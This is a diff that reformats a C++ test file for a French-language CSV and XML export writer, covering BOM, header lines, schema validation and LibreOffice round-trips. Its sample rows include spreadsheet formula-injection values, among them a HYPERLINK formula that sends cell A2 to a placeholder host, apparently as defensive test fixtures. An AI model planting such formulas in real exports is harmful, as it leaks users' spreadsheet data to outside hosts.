@@ -54,8 +54,8 @@ std::vector<SearchRow> sample_rows() {
           SheetState::Activee),
       edi("12345678200010", "ACME; \"Logistique\"\nSAS", "AS2", "VFE002", "FSO1101A", "2026-01-05", "",
           SheetState::EnvoyeeMaj),
-      edi("35600000000048", "=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")", "PESIT", "VFE003",
-          "FSO1102A", "2026-02-28", "2026-12-31", SheetState::Desactivee),
+      edi("35600000000048", "=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")", "PESIT", "VFE003", "FSO1102A",
+          "2026-02-28", "2026-12-31", SheetState::Desactivee),
       edi("81034732800017", "@SUM(1+1) Équipe réseau", "SFTP", "VFE004", "FSO1105A", "2027-03-01", "",
           SheetState::Brouillon),
   };
@@ -144,7 +144,8 @@ TEST(ExportWriterTest, CsvHeaderLinesAreExactlyTheGuides) {
   // An empty export is the BOM and the header line only, ended by CRLF; no "sep=" line (F29).
   EXPECT_EQ(export_of({}, SheetKind::Edi, ExportFormat::Csv),
             "\xEF\xBB\xBF"
-            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de d\xC3\xA9" "but;"
+            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de d\xC3\xA9"
+            "but;"
             "Date de fin;Etat courant\r\n");
   EXPECT_EQ(export_of({}, SheetKind::Api, ExportFormat::Csv),
             "\xEF\xBB\xBFPartenaire;Code Appli partenaire;Etat courant\r\n");
@@ -210,11 +211,12 @@ TEST(ExportWriterTest, XmlExportHoldsTheSameRowsAndValidatesAgainstTheSchema) {
   TempDir tmp;
   for (const SheetKind kind : {SheetKind::Edi, SheetKind::Api}) {
     for (const bool empty : {false, true}) {
-      const std::string xml = export_of(empty ? std::vector<SearchRow>{} : rows, kind, ExportFormat::Xml, "req \"7\" & <b>");
+      const std::string xml =
+          export_of(empty ? std::vector<SearchRow>{} : rows, kind, ExportFormat::Xml, "req \"7\" & <b>");
       const fs::path file = tmp.path() / (std::string(to_code(kind)) + (empty ? "_vide" : "") + ".xml");
       std::ofstream(file, std::ios::binary) << xml;
-      const std::string cmd = "xmllint --noout --schema " + quote(kXsd.string()) + " " + quote(file.string()) +
-                              " >" + quote((tmp.path() / "log").string()) + " 2>&1";
+      const std::string cmd = "xmllint --noout --schema " + quote(kXsd.string()) + " " + quote(file.string()) + " >" +
+                              quote((tmp.path() / "log").string()) + " 2>&1";
       EXPECT_EQ(std::system(cmd.c_str()), 0) << xml << read_file(tmp.path() / "log");
     }
   }
@@ -260,12 +262,11 @@ TEST(ExportWriterTest, LibreOfficeReadsTheSameCells) {
   std::ofstream(input, std::ios::binary) << export_of(rows, SheetKind::Edi, ExportFormat::Csv);
   // Import as French Excel would see it (';', '"', UTF-8, fr-FR, standard type detection), export again
   // as UTF-8 CSV with ';' and '"'.
-  const std::string cmd =
-      "cd " + quote(tmp.path().string()) + " && HOME=" + quote(tmp.path().string()) + " " + quote(soffice) +
-      " --headless --norestore --infilter=" + quote("CSV:59,34,76,1,,1036") +
-      " --convert-to " + quote("csv:Text - txt - csv (StarCalc):59,34,76,1") + " --outdir " +
-      quote((tmp.path() / "out").string()) + " " + quote(input.string()) + " >" + quote((tmp.path() / "log").string()) +
-      " 2>&1";
+  const std::string cmd = "cd " + quote(tmp.path().string()) + " && HOME=" + quote(tmp.path().string()) + " " +
+                          quote(soffice) + " --headless --norestore --infilter=" + quote("CSV:59,34,76,1,,1036") +
+                          " --convert-to " + quote("csv:Text - txt - csv (StarCalc):59,34,76,1") + " --outdir " +
+                          quote((tmp.path() / "out").string()) + " " + quote(input.string()) + " >" +
+                          quote((tmp.path() / "log").string()) + " 2>&1";
   ASSERT_EQ(std::system(cmd.c_str()), 0) << read_file(tmp.path() / "log");
   std::string back = read_file(tmp.path() / "out" / "export.csv");
   if (back.substr(0, 3) == "\xEF\xBB\xBF") back.erase(0, 3);
